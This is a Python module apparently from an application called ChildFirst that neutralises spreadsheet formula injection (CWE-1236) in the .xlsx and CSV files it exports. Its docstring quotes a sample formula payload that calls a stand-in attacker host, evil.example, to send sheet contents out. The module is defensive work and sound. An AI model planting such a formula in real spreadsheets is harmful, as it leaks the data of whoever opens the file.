"""Spreadsheets that keep people's text as text (formula injection, CWE-1236).

A workbook or CSV that ChildFirst writes holds text people typed: an audit's name, an
auditor's evidence, a team's name. Opened in Excel or LibreOffice, text beginning with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) can run as a
formula: ``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` sends the sheet's
contents away. So every spreadsheet goes out through this module:

- :func:`workbook_bytes` saves an openpyxl workbook after making every text cell a
  text cell (openpyxl turns any string starting ``=`` into a formula) and marking text
  that starts with one of those characters "quote prefixed", so that editing the cell
  keeps it text. ChildFirst writes no formulas of its own; numbers stay numbers.
- :func:`csv_writer` writes CSV rows with such text prefixed by an apostrophe, as
  OWASP advises; plain numbers written as text (``-3``, ``+2.5``) are left alone.

No library does this: openpyxl and :mod:`csv` write what they are given.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook

#: What a spreadsheet program may read as the start of a formula.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")


def risky(value: Any) -> bool:
    """Text a spreadsheet program might run: it starts with a trigger and is not simply
    a number."""
    return isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)


def workbook_bytes(book: Workbook) -> bytes:
    """``book`` as .xlsx bytes, every string stored as text, never as a formula."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    if cell.data_type == "f":
                        cell.data_type = "s"
                    if risky(cell.value):
                        cell.quotePrefix = True
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_safe(value: Any) -> Any:
    """One CSV value: risky text gets a leading apostrophe; anything else as it is."""
    return "'" + value if risky(value) else value


class _SafeWriter:
    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_safe(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: io.StringIO) -> _SafeWriter:
    """A :func:`csv.writer` (``\\n`` line ends) that neutralises risky text."""
    return _SafeWriter(out)
